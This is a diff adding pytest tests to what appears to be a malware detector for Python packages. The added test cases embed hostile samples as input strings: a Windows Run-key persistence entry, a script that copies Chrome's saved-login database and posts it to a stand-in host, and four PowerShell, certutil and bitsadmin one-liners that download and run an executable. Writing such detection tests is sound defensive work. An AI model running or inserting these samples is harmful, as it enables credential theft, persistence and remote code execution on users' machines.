@@ -4,6 +4,7 @@
 
 import base64
 import lzma
+import re
 import textwrap
 import zlib
 
@@ -279,3 +280,44 @@ def test_more_layers_than_are_peeled_are_told() -> None:
     assert any(
         b.startswith("pkg.malformed pkg/__init__.py not read: too-many layers") for b in seen(_packed(130))
     )
+
+
+@pytest.mark.parametrize("opener", ["winreg.OpenKey", "winreg.CreateKeyEx", "__import__('winreg').CreateKey"])
+def test_an_entry_among_programs_that_start_with_windows_is_told(opener: str) -> None:
+    code = f"""import winreg
+key = {opener}(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, 2)
+winreg.SetValueEx(key, "Update", 0, winreg.REG_SZ, "python -m thing")
+"""
+    assert "process.does persist run-key @ pkg/__init__.py:3 (import)" in seen(code)
+    assert not any("persist" in b for b in seen(code.replace("\\Run", "\\Themes")))
+
+
+def test_a_secret_that_is_copied_first_is_seen_to_leave() -> None:
+    code = """import os, shutil, sqlite3, requests
+place = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
+shutil.copy2(place, "x.db")
+cursor = sqlite3.connect("x.db").cursor()
+cursor.execute("select * from logins")
+found = []
+for row in cursor.fetchall():
+    found.append(row[0])
+requests.post("https://c.example/b", data=str(found))
+"""
+    flow = "code.flow file:~/.config/google-chrome/Default/Login Data > network"
+    assert flow in short(seen(code))
+    assert flow not in short(seen(code.replace('connect("x.db")', 'connect("y.db")')))
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'powershell -c "iwr https://c.example/a.exe -OutFile $env:TEMP\\\\a.exe; Start-Process $env:TEMP\\\\a.exe"',
+        "powershell \"(New-Object Net.WebClient).DownloadFile('https://c.example/a.exe','a.exe'); Start-Process 'a.exe'\"",
+        "certutil -urlcache -split -f https://c.example/a.exe a.exe && a.exe",
+        "bitsadmin /transfer j https://c.example/a.exe %TEMP%\\\\a.exe & %TEMP%\\\\a.exe",
+    ],
+)
+def test_what_a_command_of_windows_saves_and_starts_came_from_the_network(command: str) -> None:
+    assert "code.flow network > execution" in short(seen(f"import os\nos.system({command!r})"))
+    only_saved = re.split("[;&]", command)[0]
+    assert "code.flow network > execution" not in short(seen(f"import os\nos.system({only_saved!r})"))
